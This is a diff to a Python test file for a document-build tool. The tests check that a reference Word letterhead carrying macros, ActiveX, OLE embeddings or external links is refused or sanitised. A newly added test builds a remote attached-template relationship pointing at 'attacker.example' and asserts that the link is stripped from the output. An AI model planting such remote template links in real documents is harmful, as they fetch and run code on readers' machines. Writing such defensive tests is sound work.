@@ -57,12 +57,6 @@ def _vba(parts: dict) -> None:
         b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
 
 
-def _attached_template(parts: dict) -> None:
-    _add_rel(parts, "word/_rels/settings.xml.rels",
-             f'<Relationship Id="rIdT" Type="{_REL}/attachedTemplate" '
-             f'Target="https://attacker.example/t.dotm" TargetMode="External"/>')
-
-
 def _external_image(parts: dict) -> None:
     _add_rel(parts, "word/_rels/document.xml.rels",
              f'<Relationship Id="rIdImg" Type="{_REL}/image" Target="https://tracker.example/pixel.png" '
@@ -83,8 +77,8 @@ def _build(tmp_path: Path, theme_text: str, *extra: str) -> subprocess.Completed
     return run_cli("build", str(BUNDLED), "-o", str(tmp_path / "out"), "--theme", str(theme), *extra)
 
 
-@pytest.mark.parametrize("change", [_vba, _attached_template, _external_image, _activex, _embedding],
-                         ids=["vba", "attached-template", "external-image", "activex", "ole-embedding"])
+@pytest.mark.parametrize("change", [_vba, _external_image, _activex, _embedding],
+                         ids=["vba", "external-image", "activex", "ole-embedding"])
 def test_a_reference_with_active_or_linked_content_is_refused(tmp_path, change):
     (tmp_path / "letterhead.docx").write_bytes(_repacked(_plain_docx(), change))
     result = _build(tmp_path, "reference_docx: letterhead.docx\n")
@@ -93,6 +87,33 @@ def test_a_reference_with_active_or_linked_content_is_refused(tmp_path, change):
     assert "letterhead.docx" in result.stderr and "without macros" in result.stderr
     assert "Traceback" not in result.stderr
     assert not (tmp_path / "out").exists()
+
+
+@pytest.mark.parametrize("target", ["https://attacker.example/t.dotm", "file:///C:/Users/a/Normal.dotm",
+                                    "Normal.dotm"])
+def test_a_references_link_to_its_template_is_removed_not_passed_on(tmp_path, target):
+    """Word links most documents to the template they were made from (Normal.dotm on the
+    author's machine; a remote one fetches code): the letterhead is used, the link dropped."""
+    def attached(parts):
+        _add_rel(parts, "word/_rels/settings.xml.rels",
+                 f'<Relationship Id="rIdT" Type="{_REL}/attachedTemplate" Target="{target}" TargetMode="External"/>')
+        parts["word/settings.xml"] = parts["word/settings.xml"].replace(
+            b"<w:defaultTabStop", b'<w:attachedTemplate r:id="rIdT"/><w:defaultTabStop', 1)
+
+    (tmp_path / "letterhead.docx").write_bytes(_repacked(_plain_docx(), attached))
+    assert b"attachedTemplate" in zipfile.ZipFile(tmp_path / "letterhead.docx").read("word/settings.xml")
+    result = _build(tmp_path, "reference_docx: letterhead.docx\n", "-f", "docx")
+    assert result.returncode == 0, result.stderr
+    out = tmp_path / "out" / f"{BUNDLED.stem}.docx"
+    with zipfile.ZipFile(out) as package:
+        everything = b"".join(package.read(name) for name in package.namelist())
+    assert b"attachedTemplate" not in everything
+    if "/" in target:  # app.xml names "Normal.dotm" as a plain word, which links to nothing
+        assert target.encode() not in everything
+    import docx
+
+    doc = docx.Document(str(out))
+    assert any("MINISTRY LETTERHEAD" in p.text for p in doc.sections[0].header.paragraphs)
 
 
 def test_a_reference_with_an_http_hyperlink_is_used(tmp_path):
